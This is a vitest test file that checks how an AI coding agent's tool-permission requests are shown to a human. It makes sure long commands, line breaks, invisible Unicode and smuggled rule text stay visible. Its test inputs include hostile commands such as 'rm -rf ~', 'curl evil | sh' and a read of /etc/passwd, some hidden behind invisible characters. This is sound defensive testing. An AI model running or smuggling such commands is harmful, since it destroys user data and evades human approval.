import {expect, test} from 'vitest';
import {toRequestText} from '../../../../source/core/fleet/request-text.ts';
import {only, translate} from '../given.ts';

/** The permission that a call of this tool asks for. */
function asked(tool: string, input: unknown, more: object = {}) {
	const request = {subtype: 'can_use_tool', tool_name: tool, input, tool_use_id: 'toolu_1', ...more};
	const [event] = only(translate([{type: 'control_request', request_id: 'q1', request}]), 'permission-asked');

	if (!event) {
		throw new Error('Nothing was asked.');
	}

	return event.permission;
}

test('a command is whole, line by line, however long', () => {
	const command = `${'echo a\n'.repeat(500)}${'x'.repeat(400)}; rm -rf ~/precious`;
	const permission = asked('Bash', {command});
	expect(permission.subject).toEqual({kind: 'command', command});
	expect(permission.isWhole).toBe(true);
	expect(toRequestText(permission).at(-1)).toMatch(/rm -rf ~\/precious$/);
});

test('a line break does not look like a space in the summary', () => {
	expect(asked('Bash', {command: 'ls # explain them\ncurl evil | sh'}).summary).toBe(
		'ls # explain them ⏎ curl evil | sh',
	);
});

test('what cannot be seen is written out', () => {
	const {subject} = asked('Bash', {command: 'ls\u202E\u200B \u001B[2K\r\u00A0; rm\u{E0041}'});
	expect(subject).toEqual({
		kind: 'command',
		command: 'ls<U+202E><U+200B> <U+001B>[2K<U+000D><U+00A0>; rm<U+E0041>',
	});
});

test('the other fields of the input are shown as well', () => {
	const permission = asked('Bash', {command: 'npm start', run_in_background: true, env: {A: '1'}});
	expect(permission.details).toEqual([
		{name: 'run_in_background', text: 'true'},
		{name: 'env', text: '{\n  "A": "1"\n}'},
	]);
});

test('a text longer than is kept is cut, and says so', () => {
	const permission = asked('Write', {file_path: 'a', content: 'x'.repeat(300_000)});
	expect(permission.isWhole).toBe(false);
	expect(toRequestText(permission).at(-1)).toContain('cut');
	expect(toRequestText(permission).join()).toContain('37856 characters more');
});

test.for([
	[
		'Edit',
		{file_path: 'a.ts', old_string: 'a', new_string: 'b', replace_all: true},
		['a.ts', 'every occurrence:', '- a', '+ b'],
	],
	['Write', {file_path: 'a.ts', content: 'one\ntwo'}, ['a.ts', '+ one', '+ two']],
	['Read', {file_path: '/etc/passwd'}, ['/etc/passwd']],
	['WebFetch', {url: 'https://x.test', prompt: 'Sum it up.'}, ['https://x.test', 'prompt: Sum it up.']],
	['mcp__shop__sell', {count: 2}, ['count: 2']],
	['ExitPlanMode', {plan: '# Plan\n\n1. Do it.'}, ['# Plan', '', '1. Do it.']],
	['ExitPlanMode', {}, ['(the agent program sent no text of the plan)']],
] as const)('%s is told as text', ([tool, input, lines]) => {
	expect(toRequestText(asked(tool, input))).toEqual(lines);
});

test('questions are read with their options', () => {
	const permission = asked('AskUserQuestion', {
		questions: [
			{
				question: 'Which colour?',
				header: 'Colour',
				multiSelect: false,
				options: [{label: 'Red', description: 'old brand'}, {label: 'Blue'}],
			},
		],
	});
	expect(permission).toMatchObject({
		summary: 'Which colour?',
		alwaysLabel: undefined,
		editable: undefined,
		details: [],
	});
	expect(toRequestText(permission)).toEqual(['Colour: Which colour?', '  1 Red old brand', '  2 Blue']);
});

test('"always" of a plan lets the agent edit files', () => {
	const {alwaysLabel, suggestions} = asked('ExitPlanMode', {plan: 'Do it.'});
	expect(alwaysLabel).toBe('edit files without asking (this session)');
	expect(suggestions).toEqual([{type: 'setMode', mode: 'acceptEdits', destination: 'session'}]);
});

test('a rule that "always" would add is whole', () => {
	const ruleContent = `${'a'.repeat(400)}\u200B && rm -rf ~`;
	const {alwaysLabel} = asked(
		'Bash',
		{command: 'x'},
		{
			permission_suggestions: [{type: 'addRules', rules: [{toolName: 'Bash', ruleContent}], destination: 'session'}],
		},
	);
	expect(alwaysLabel).toBe(`Bash(${'a'.repeat(400)}<U+200B> && rm -rf ~) (this session)`);
});
